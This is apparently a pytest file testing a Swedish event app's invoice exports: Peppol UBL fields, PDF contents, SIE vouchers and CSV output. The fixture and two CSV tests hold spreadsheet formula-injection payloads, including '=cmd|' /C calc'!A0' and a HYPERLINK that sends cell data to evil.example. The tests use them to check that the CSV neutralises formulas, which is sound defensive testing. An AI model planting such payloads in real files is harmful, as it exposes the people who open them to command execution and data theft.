"""The invoice as PDF, Peppol UBL, SIE and CSV: the fields the law and the rule sets ask for."""
import csv
import io
import subprocess
from decimal import Decimal

import pytest
from flask_babel import force_locale
from invoice_builders import ADDRESS, NACKA, approved_and_issued, no_show, past_event, pdf, staff, ubl
from lxml import etree
from stdnum.se import orgnr

from eventapp.exports.invoice_csv import invoices_csv
from eventapp.exports.invoice_pdf import invoice_pdf
from eventapp.exports.sie import ACCOUNT_NAMES, SieAccounts, accounts_from_config, pc8, sie_file
from eventapp.exports.tabular import safe_text
from eventapp.models import VatTreatment
from eventapp.services import invoicing, noshow

NS = {
    "cac": "urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2",
    "cbc": "urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2",
}
PDFTOTEXT = "pdftotext"  # poppler-utils, which `make test` installs
HOSTILE = '=HYPERLINK("http://evil.example")<b>"Ö\\'


@pytest.fixture
def issued(ctx, now):
    """Nacka kommun: two no-shows on one invoice (one with a hostile name), and its credit note."""
    event, at = past_event(now, title="Nowa Nyfiken på Almedalen", venue="Nordstan", city="Göteborg")
    no_show(event, at, 1, first_name="Åsa", **{**NACKA, "invoice_street": "Box 1"},
            invoice_address="c/o Kommunikationsenheten")
    no_show(event, at, 2, first_name=HOSTILE, **NACKA)
    finance = staff("finance")
    [invoice] = approved_and_issued(event, now, staff("organiser"), finance).invoices
    credit = invoicing.credit_invoice(invoice.id, actor=finance, now=now, line_ids=[invoice.lines[0].id],
                                      reason="Åsa kom men checkades inte in")
    return invoice, credit


def xpath(tree, path):
    """The text of the first match of a full XPath, or None."""
    found = tree.xpath(path, namespaces=NS)
    return found[0].text if found else None


def text(tree, path):
    return tree.findtext(path, namespaces=NS)


def test_ubl_invoice_follows_the_swedish_peppol_rules(issued):
    invoice, _ = issued
    tree = etree.fromstring(ubl(invoice))
    assert tree.tag == "{urn:oasis:names:specification:ubl:schema:xsd:Invoice-2}Invoice"
    assert text(tree, "cbc:CustomizationID").endswith("poacc:billing:3.0")
    assert text(tree, "cbc:InvoiceTypeCode") == "380"
    supplier = tree.find("cac:AccountingSupplierParty/cac:Party", NS)
    vat_id = xpath(supplier, "cac:PartyTaxScheme[cac:TaxScheme/cbc:ID='VAT']/cbc:CompanyID")
    assert len(vat_id) == 14 and vat_id.startswith("SE") and vat_id[2:].isdigit()  # SE-R-001, SE-R-002
    legal_id = supplier.findtext("cac:PartyLegalEntity/cbc:CompanyID", namespaces=NS)
    assert orgnr.is_valid(legal_id) and len(legal_id) == 10  # SE-R-003, -004, -013
    assert xpath(supplier, "cac:PartyTaxScheme[cac:TaxScheme/cbc:ID='TAX']/cbc:CompanyID") == "Godkänd för F-skatt"
    assert [p.text for p in tree.iterfind(".//cbc:Percent", NS)] == ["25"] * 3  # SE-R-006
    means = tree.find("cac:PaymentMeans", NS)
    assert text(means, "cbc:PaymentMeansCode") == "30"  # SE-R-011/012
    assert text(means, "cac:PayeeFinancialAccount/cac:FinancialInstitutionBranch/cbc:ID") == "SE:BANKGIRO"
    assert text(means, "cac:PayeeFinancialAccount/cbc:ID") == "1234567"  # SE-R-008/009
    customer = tree.find("cac:AccountingCustomerParty/cac:Party", NS)
    endpoint = customer.find("cbc:EndpointID", NS)
    assert (endpoint.get("schemeID"), endpoint.text) == ("0007", "2120000142")
    assert text(customer, "cac:PostalAddress/cbc:PostalZone") == "13181"
    assert text(customer, "cac:PostalAddress/cbc:CityName") == "Nacka"
    assert text(tree, "cbc:BuyerReference") == "KS-4711"
    # BR-CO-10..16: the totals add up from the lines.
    lines = [Decimal(e.text) for e in tree.iterfind("cac:InvoiceLine/cbc:LineExtensionAmount", NS)]
    assert sum(lines) == Decimal(text(tree, "cac:LegalMonetaryTotal/cbc:LineExtensionAmount")) == Decimal("500.00")
    assert Decimal(text(tree, "cac:TaxTotal/cbc:TaxAmount")) == Decimal("125.00")
    assert Decimal(text(tree, "cac:LegalMonetaryTotal/cbc:PayableAmount")) == Decimal("625.00")
    assert HOSTILE in [e.text.split(" Andersson")[0] for e in tree.iterfind(".//cac:Item/cbc:Description", NS)]


def test_ubl_credit_note_refers_to_the_invoice_with_positive_amounts(issued):
    invoice, credit = issued
    tree = etree.fromstring(ubl(credit))
    assert tree.tag == "{urn:oasis:names:specification:ubl:schema:xsd:CreditNote-2}CreditNote"
    assert text(tree, "cbc:CreditNoteTypeCode") == "381"
    assert text(tree, "cac:BillingReference/cac:InvoiceDocumentReference/cbc:ID") == str(invoice.number)
    assert text(tree, "cac:LegalMonetaryTotal/cbc:PayableAmount") == "312.50"
    assert len(tree.findall("cac:CreditNoteLine", NS)) == 1
    assert tree.find("cac:CreditNoteLine/cbc:CreditedQuantity", NS) is not None


def test_ubl_outside_the_scope_of_vat_names_no_vat_number(ctx, now):
    event, at = past_event(now)
    no_show(event, at, 1, **NACKA)
    organiser = staff("organiser")
    noshow.set_vat_treatment(event.id, VatTreatment.OUTSIDE_SCOPE, "Ersättning för utebliven plats, ej omsättning",
                             actor=organiser, now=now)
    [invoice] = approved_and_issued(event, now, organiser, staff("finance")).invoices
    tree = etree.fromstring(ubl(invoice))
    assert xpath(tree, "//cac:PartyTaxScheme[cac:TaxScheme/cbc:ID='VAT']") is None  # BR-O-02
    assert text(tree, "cac:TaxTotal/cac:TaxSubtotal/cac:TaxCategory/cbc:ID") == "O"
    assert text(tree, "cac:TaxTotal/cac:TaxSubtotal/cac:TaxCategory/cbc:TaxExemptionReason").startswith("Ersättning")
    assert tree.find(".//cbc:Percent", NS) is None


def pdf_text(pdf: bytes, *options: str) -> str:
    command = [PDFTOTEXT, *options, "-", "-"]
    return subprocess.run(command, input=pdf, capture_output=True, check=True).stdout.decode()  # noqa: S603


def test_the_pdf_shows_every_legally_required_field(issued):
    invoice, credit = issued
    shown = pdf_text(invoice_pdf(invoice), "-layout")
    for required in ["Faktura", str(invoice.number), invoice.issue_date.isoformat(), invoice.due_date.isoformat(),
                     "Nowa Kommunikation AB", "Exempelgatan 1", "SE559900000601", "559900-0006",
                     "Nacka kommun", "Box 1", "131 81 Nacka", "212000-0142", "Nowa Nyfiken på Almedalen",
                     "Åsa Andersson 1", "500 kr", "25 %", "125 kr", "625 kr", "123-4567", "KS-4711",
                     "Godkänd för F-skatt", "30 dagar netto"]:
        assert required in shown, required
    credit_text = pdf_text(invoice_pdf(credit))
    assert "Kreditfaktura" in credit_text and f"{invoice.number} ({invoice.issue_date.isoformat()})" in credit_text
    assert "-312,50 kr" in credit_text


def test_sie_vouchers_balance_and_text_is_escaped(issued, now):
    invoice, credit = issued
    invoicing.record_payment(invoice.id, invoice.issue_date, actor=staff("finance"), now=now)
    payments = invoice.payments
    data = sie_file([invoice, credit], payments, company='Nowa "Kommunikation" AB', org_number="559900-0006",
                    accounts=SieAccounts(revenue="3001"), generated_on=now.date())
    sie = data.decode("cp437")
    assert sie.startswith("#FLAGGA 0\r\n#FORMAT PC8\r\n#SIETYP 4\r\n")
    assert '#FNAMN "Nowa \\"Kommunikation\\" AB"' in sie
    vouchers = sie.split("#VER")[1:]
    assert len(vouchers) == 3
    for voucher in vouchers:
        amounts = [Decimal(line.split()[-1]) for line in voucher.splitlines() if "#TRANS" in line]
        assert sum(amounts) == 0
    assert "#TRANS 3001 {} -500.00" in vouchers[0] and "#TRANS 2611 {} -125.00" in vouchers[0]
    assert "#TRANS 1510 {} -312.50" in vouchers[1]
    assert "#TRANS 1930 {} 312.50" in vouchers[2]


def test_csv_lists_invoices_and_neutralises_formulas(issued, ctx):
    invoice, credit = issued
    rows = invoices_csv([invoice, credit]).decode("utf-8-sig").splitlines()
    assert rows[0].startswith("Nummer;Typ;")
    assert rows[1].split(";")[:2] == [str(invoice.number), "Faktura"]
    assert ";625,00;" in rows[1] and ";-312,50;" in rows[2]
    hostile_event = invoice.event
    hostile_event.title = "=cmd|' /C calc'!A0"
    assert ";'=cmd|' /C calc'!A0;" in invoices_csv([invoice]).decode("utf-8-sig")


def test_csv_escapes_a_buyer_named_like_a_formula(ctx, now):
    """A buyer typed as =HYPERLINK(…) on the public form: does the CSV hold it as text, as the attendee lists do?"""
    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Klicka här")'
    event, at = past_event(now)
    no_show(event, at, 1, organisation=hyperlink, organisation_kind="company", org_number="556677-8899",
            invoice_reference="@SUM(1+1)*cmd|' /C calc'!A0", **ADDRESS)
    [invoice] = approved_and_issued(event, now, staff("organiser"), staff("finance")).invoices
    credit = invoicing.credit_invoice(invoice.id, actor=staff("finance"), now=now, whole=True, reason="Fel")
    [header, invoice_row, credit_row] = csv.reader(io.StringIO(invoices_csv([invoice, credit]).decode("utf-8-sig")),
                                                   delimiter=";")
    row = dict(zip(header, invoice_row, strict=True))
    assert row["Köpare"] == safe_text(hyperlink) == "'" + hyperlink
    assert row["Referens"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["Totalt"] == "312,50" and dict(zip(header, credit_row, strict=True))["Totalt"] == "-312,50"



def test_the_day_of_supply_is_the_local_day_of_the_event(ctx, now):
    """A breakfast at 00:30 in Stockholm is on the local day, not the UTC day before."""
    from datetime import UTC, datetime

    event, at = past_event(now, starts_at=datetime(2016, 12, 31, 23, 30, tzinfo=UTC))
    no_show(event, at, 1, **NACKA)
    [invoice] = approved_and_issued(event, now, staff("organiser"), staff("finance")).invoices
    assert text(etree.fromstring(ubl(invoice)), "cac:Delivery/cbc:ActualDeliveryDate") == "2017-01-01"


def test_ubl_buyer_address_is_street_postcode_and_city_never_the_organisations_name(issued):
    invoice, _ = issued
    address = etree.fromstring(ubl(invoice)).find("cac:AccountingCustomerParty/cac:Party/cac:PostalAddress", NS)
    assert text(address, "cbc:StreetName") == "Box 1"
    assert text(address, "cbc:AdditionalStreetName") == "c/o Kommunikationsenheten"
    assert (text(address, "cbc:PostalZone"), text(address, "cbc:CityName")) == ("13181", "Nacka")
    assert text(address, "cac:Country/cbc:IdentificationCode") == "SE"


def test_ubl_of_an_e_mail_buyer_names_no_peppol_participant(ctx, now):
    """A company without a Peppol ID gets the PDF by e-mail: its XML carries no EndpointID (nobody registered
    0007:<its number>) and does not claim to be a Peppol document."""
    event, at = past_event(now)
    no_show(event, at, 1, organisation="Exempelbolaget AB", org_number="556999-9997", invoice_reference="R1",
            invoice_address="faktura@example.org", **ADDRESS)
    [invoice] = approved_and_issued(event, now, staff("organiser"), staff("finance")).invoices
    assert invoice.delivery == "email"
    tree = etree.fromstring(ubl(invoice))
    assert tree.find("cac:AccountingCustomerParty/cac:Party/cbc:EndpointID", NS) is None
    assert text(tree, "cbc:CustomizationID") == "urn:cen.eu:en16931:2017" and tree.find("cbc:ProfileID", NS) is None
    address = tree.find("cac:AccountingCustomerParty/cac:Party/cac:PostalAddress", NS)
    assert text(address, "cbc:StreetName") == "Storgatan 1" and address.find("cbc:AdditionalStreetName", NS) is None
    assert tree.find("cac:AccountingSupplierParty/cac:Party/cbc:EndpointID", NS) is not None


def test_the_pdf_header_holds_a_100_character_reference(ctx, now):
    """A reference of 100 characters without a space: do the title, number and dates stay on the page, and is
    the reference printed in full?"""
    reference = "KOMMUNIKATIONSENHETEN" + "0123456789" * 7 + "REF4711XX"  # no hyphen: pdftotext drops one at a break
    assert len(reference) == 100
    event, at = past_event(now)
    no_show(event, at, 1, **{**NACKA, "invoice_reference": reference})
    [invoice] = approved_and_issued(event, now, staff("organiser"), staff("finance")).invoices
    shown = pdf_text(pdf(invoice))
    for required in ["Faktura", "Nummer", str(invoice.number), invoice.issue_date.isoformat(),
                     invoice.due_date.isoformat(), "Nowa Kommunikation AB", "Sida 1 av 1"]:
        assert required in shown, required
    assert reference in "".join(shown.split())  # wrapped, not cut


def test_every_pdf_page_carries_the_number_and_the_page(ctx, now):
    event, at = past_event(now)
    for n in range(60):
        no_show(event, at, n, **NACKA)
    [invoice] = approved_and_issued(event, now, staff("organiser"), staff("finance")).invoices
    pages = pdf_text(pdf(invoice)).split("\f")[:-1]
    assert len(pages) >= 2
    for number, page in enumerate(pages, start=1):
        assert f"Faktura {invoice.number} · Sida {number} av {len(pages)}" in page


def test_the_pdf_of_a_fee_outside_the_scope_of_vat_prints_no_rate(ctx, now):
    event, at = past_event(now)
    no_show(event, at, 1, **NACKA)
    organiser = staff("organiser")
    noshow.set_vat_treatment(event.id, VatTreatment.OUTSIDE_SCOPE, "Skadestånd, ej omsättning", actor=organiser,
                             now=now)
    [invoice] = approved_and_issued(event, now, organiser, staff("finance")).invoices
    shown = pdf_text(pdf(invoice))
    assert "Utanför momsens tillämpningsområde: Skadestånd, ej omsättning" in shown
    assert "Belopp utanför momsens tillämpningsområde" in shown
    assert "Momssats" not in shown and "0 %" not in shown and "Moms 0" not in shown


def test_sie_is_bas2014_with_configured_names_and_transliterated_letters(issued, now):
    invoice, credit = issued
    accounts = SieAccounts(names={**ACCOUNT_NAMES, "receivable": "Kundfordringar, evenemang"})
    data = sie_file([invoice], [], company="Łódź Grønt Ltd", org_number="559900-0006", accounts=accounts,
                    generated_on=now.date())
    sie = data.decode("cp437")
    assert "#KPTYP BAS2014\r\n" in sie
    assert '#KONTO 1510 "Kundfordringar, evenemang"' in sie and '#KONTO 3041 "Försäljning tjänster, 25 % moms"' in sie
    assert '#FNAMN "Lódz Gront Ltd"' in sie and "?" not in sie  # ó is in code page 437, Ł, ź and ø are not
    assert pc8("محمد Дарья") == "mhmd Dar'ya"


def test_sie_account_names_come_from_the_settings(app):
    app.config["SIE_ACCOUNT_NAME_BANK"] = "Plusgiro"
    assert accounts_from_config(app.config).names["bank"] == "Plusgiro"
    assert accounts_from_config(app.config).names["vat"] == "Utgående moms, 25 %"


def test_the_csv_is_in_the_users_language(issued, app):
    invoice, credit = issued
    with app.test_request_context(headers={"Accept-Language": "en"}), force_locale("en"):
        rows = list(csv.reader(io.StringIO(invoices_csv([invoice, credit]).decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Number", "Type", "Credits invoice"]
    assert rows[1][1] == "Invoice" and rows[1][9] == "Peppol e-invoice" and rows[1][-3] == "Issued"
    with app.test_request_context(), force_locale("sv"):
        rows = list(csv.reader(io.StringIO(invoices_csv([invoice, credit]).decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Nummer", "Typ", "Krediterar faktura"]
    assert rows[1][1] == "Faktura" and rows[1][9] == "Peppol-e-faktura" and rows[1][-3] == "Utfärdad"
    assert rows[2][1] == "Kreditfaktura" and rows[2][-3] == "Kreditfaktura"
